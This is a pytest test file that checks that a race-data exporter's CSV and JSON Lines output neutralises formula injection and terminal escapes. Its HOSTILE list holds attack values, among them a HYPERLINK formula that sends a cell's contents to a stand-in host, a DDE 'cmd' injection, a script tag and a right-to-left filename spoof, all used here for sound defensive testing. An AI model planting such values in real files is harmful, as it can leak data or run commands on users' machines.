"""Rows as lines: JSON exactly as stored, CSV that a spreadsheet reads as what it is and nothing else."""

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from raceday_daemon.exports.forms import Form, lines_of
from raceday_daemon.ops.printable import printable

FORMULAS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
COLUMNS = ("id", "name", "odds", "isScratched")
VALUES = st.none() | st.text() | st.integers() | st.floats(allow_nan=False, allow_infinity=False)
HOSTILE = (
    '=HYPERLINK("http://example.org?x="&A1,"odds")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\uff1d1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"; =1+1',
    "a;=1+1",
    "<script>alert(1)</script>",
    "\x1b]0;title\x07\x1b[31m",
    "safe\u202egnp.exe",
    "\u2066hidden\u2069",
    "\ufeff=1+1",
    "x" * 10_000,
    "M\u0101ori \U0001f3c7",
)


def csv_of(*rows: tuple[Any, ...]) -> list[list[str]]:
    """Write rows, and read them as any program does that knows RFC 4180; the head comes first."""
    lines = lines_of(Form.CSV, COLUMNS, frozenset({"isScratched"}))
    text = lines.head() + "".join(map(lines.line, rows))
    assert text.count("\r\n") == len(rows) + 1
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def json_of(row: tuple[Any, ...]) -> tuple[str, dict[str, Any]]:
    line = lines_of(Form.JSONL, COLUMNS, frozenset({"isScratched"})).line(row)
    found: dict[str, Any] = json.loads(line)
    return line, found


def test_each_kind_of_value_has_its_form() -> None:
    assert csv_of(("a", None, -4.5, 1), ("b", "", 0, 0), ('say "so", he said', "c", None, None)) == [
        list(COLUMNS),
        ["a", "", "-4.5", "true"],
        ["b", "", "0", "false"],
        ['say "so", he said', "c", "", ""],
    ]
    line = lines_of(Form.CSV, COLUMNS, frozenset()).line(("a", None, 1.5, ""))
    assert line == '"a",,1.5,""\r\n', "nothing and an empty text are told apart"


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_text_does_nothing_in_a_spreadsheet_and_nothing_in_a_terminal(text: str) -> None:
    _, (cell, *_) = csv_of((text, None, None, None))
    assert not cell.startswith(FORMULAS)
    assert cell.isprintable()
    assert unmarked(cell) == unmarked(printable(text))


def unmarked(text: str) -> str:
    return text.replace("'", "")


@pytest.mark.parametrize("text", [*HOSTILE, 'a;"=1+1;b', ';;-1;""""@a;'], ids=range(len(HOSTILE) + 2))
def test_it_does_nothing_either_where_a_semicolon_ends_a_cell(text: str) -> None:
    line = lines_of(Form.CSV, COLUMNS, frozenset()).line(("a", text, text, None))
    for (*cells,) in csv.reader(io.StringIO(line, newline=""), delimiter=";"):
        assert not any(cell.startswith(FORMULAS) for cell in cells)


@given(st.tuples(VALUES, VALUES, VALUES, st.none() | st.booleans().map(int)))
def test_csv_holds_every_value_and_no_formula(row: tuple[Any, ...]) -> None:
    head, found = csv_of(row)
    assert head == list(COLUMNS)
    for value, cell in zip(row[:3], found[:3], strict=True):
        if isinstance(value, str):
            assert unmarked(cell) == unmarked(printable(value))
            assert not cell.startswith(FORMULAS)
        elif value is not None:
            assert type(value)(cell) == value
        else:
            assert cell == ""


@given(st.tuples(VALUES, VALUES, VALUES, st.none() | st.booleans().map(int)))
def test_json_lines_are_exact_and_steer_no_terminal(row: tuple[Any, ...]) -> None:
    line, found = json_of(row)
    assert list(found) == list(COLUMNS)
    *values, flag = row
    assert list(found.values()) == [*values, None if flag is None else bool(flag)]
    assert line.removesuffix("\n").isprintable()


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_json_lines_keep_a_hostile_text_as_it_is(text: str) -> None:
    assert json_of((text, None, None, None))[1]["id"] == text


def test_texts_that_hold_json_stay_texts() -> None:
    assert json_of(("a", '[{"position": 1}]', None, None))[1]["name"] == '[{"position": 1}]'
